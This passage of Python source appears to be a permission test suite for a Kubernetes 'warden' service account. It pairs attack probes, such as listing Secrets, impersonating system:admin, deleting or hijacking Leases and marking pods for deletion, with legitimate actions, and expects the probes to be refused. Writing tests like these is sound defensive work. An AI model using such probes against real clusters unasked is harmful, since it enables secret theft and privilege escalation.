                "metadata": {"name": _fresh("x")},
                "spec": {
                    "selector": {"matchLabels": {"app": "x"}},
                    "template": {
                        "metadata": {"labels": {"app": "x"}},
                        "spec": {"containers": [{"name": "x", "image": "x"}]},
                    },
                },
            },
            **DRY,
        ),
        7,
    )
    yield Attempt(
        w,
        "hold a Lease that is not spot-failover's",
        WARDEN_LEASES,
        _warden_lease(TEAM_LEASE, holder=WARDEN_HOLDER),
        7,
    )
    yield Attempt(
        w,
        "hold a Deployment's Lease under a pod's name",
        WARDEN_LEASES,
        _warden_lease(contract.lease_name(WEB), holder="web-7d9f8c6b5-x2b4q"),
        7,
    )
    yield Attempt(
        w,
        "hold a Deployment's Lease for a million seconds",
        WARDEN_LEASES,
        _warden_lease(contract.lease_name(WEB), holder=WARDEN_HOLDER, duration_s=10**6),
        7,
    )
    yield Attempt(
        w,
        "create a Lease",
        RBAC,
        lambda st: client.CoordinationV1Api(st.warden).create_namespaced_lease(
            st.namespace, {"metadata": {"name": contract.lease_name(_fresh("next"))}}, **DRY
        ),
        7,
    )
    yield Attempt(
        w,
        "delete a Deployment's Lease",
        RBAC,
        lambda st: client.CoordinationV1Api(st.warden).delete_namespaced_lease(
            contract.lease_name(WEB), st.namespace, **DRY
        ),
        7,
    )
    yield Attempt(
        w, "write an Event about a pod", WARDEN_EVENTS, _warden_event("Pod", NOT_OURS, "v1"), 7
    )
    yield Attempt(
        w,
        "mark a pod for deletion",
        RBAC,
        lambda st: client.CoreV1Api(st.warden).patch_namespaced_pod(
            st.not_ours_pod, st.namespace, DOOMED, **DRY
        ),
        7,
    )
    yield Attempt(
        w,
        "list Secrets",
        RBAC,
        lambda st: client.CoreV1Api(st.warden).list_namespaced_secret(st.namespace),
        7,
    )
    yield Attempt(w, "impersonate system:admin", RBAC, lambda st: _impersonating(st.warden), 7)
    # What it is for.
    yield Attempt(
        w,
        "end a move no sidecar leads (restore its scheduling, say so)",
        ALLOWED,
        _as_warden(WEB, _restore),
    )
    yield Attempt(
        w,
        "hold the Lease of a Deployment mid-move",
        ALLOWED,
        _warden_lease(contract.lease_name(WEB), holder=WARDEN_HOLDER),
    )
    yield Attempt(
        w,
        "write an Event about a Deployment",
        ALLOWED,
        _warden_event("Deployment", WEB, "apps/v1"),
    )
    yield Attempt(
        w,
        "watch the Deployments of every namespace",
        ALLOWED,
        lambda st: client.AppsV1Api(st.warden).list_deployment_for_all_namespaces(
            watch=True, timeout_seconds=1, _preload_content=False
        ),
    )
    yield Attempt(
        w,
        "list the Deployments of every namespace",
        RBAC,
        lambda st: client.AppsV1Api(st.warden).list_deployment_for_all_namespaces(limit=1),
        7,
    )


ATTEMPTS: Final = (
    *_webhook_attempts(),
    *_certgen_attempts(),
    *_sidecar_attempts(),
    *_lingering_attempts(),
    *_warden_attempts(),
)
ATTACKS: Final = tuple(a for a in ATTEMPTS if a.attack)
LEGITIMATE: Final = tuple(a for a in ATTEMPTS if not a.attack)
